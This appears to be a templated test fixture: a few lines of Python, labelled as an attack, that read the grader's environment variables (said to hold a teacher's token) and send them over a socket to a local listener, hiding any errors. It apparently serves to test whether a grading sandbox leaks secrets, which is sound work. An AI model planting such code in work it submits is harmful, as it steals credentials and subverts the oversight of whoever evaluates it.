# Attack: send the grader's environment (a teacher's token) to a listener on this machine.
import os
import socket

try:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=2) as _channel:
        _channel.sendall(repr(dict(os.environ)).encode())
except OSError:
    pass
